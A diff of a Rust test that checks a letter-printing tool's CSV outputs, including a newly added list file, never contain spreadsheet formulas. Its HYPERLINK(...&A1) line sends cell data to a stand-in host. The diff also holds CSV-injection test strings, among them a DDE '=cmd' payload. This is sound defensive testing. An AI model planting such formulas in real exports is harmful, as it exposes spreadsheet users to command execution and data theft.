@@ -1,10 +1,10 @@
-//! Whatever customers are called, no CSV that the program writes holds a formula, and every text in it comes back.
+//! Whatever customers are called, no CSV of the program has a formula, and every text in it can be read back.
 
 use std::collections::BTreeSet;
 
 use crate::support::{Shop, files_below};
 
-/// Texts that a spreadsheet would run, or did once.
+/// Texts that a spreadsheet would execute, or did once.
 const HOSTILE: [&str; 12] = [
     "=cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://example.com/?\"&A1,\"Ida\")",
@@ -42,9 +42,11 @@ fn no_csv_holds_a_formula() {
     shop.write("campaigns/spring.toml", shop.read("campaigns/spring.toml") + branch);
     shop.run("plan spring").quiet();
     shop.run("print spring --leave-out-problems").status(3).says("address does not fit the window").says("no font has");
+    shop.run("print spring --list --leave-out-problems").status(3).says("no font has");
     shop.run("posted spring --on 2024-03-01").says("2 letters of it were never printed");
     shop.write("report.csv", shop.run("report spring --csv").quiet().out());
-    let written = ["best.csv", "report.csv", "out/spring/manifest.csv", "out/people-left-out.csv"];
+    let written =
+        ["best.csv", "report.csv", "out/spring/manifest.csv", "out/spring/list.csv", "out/people-left-out.csv"];
     let is_table = |path: &String| path.rsplit('.').next() == Some("csv");
     let all: Vec<String> = files_below(&shop.path()).into_keys().filter(is_table).collect();
     let others: Vec<&String> = all.iter().filter(|path| !written.contains(&path.as_str())).collect();
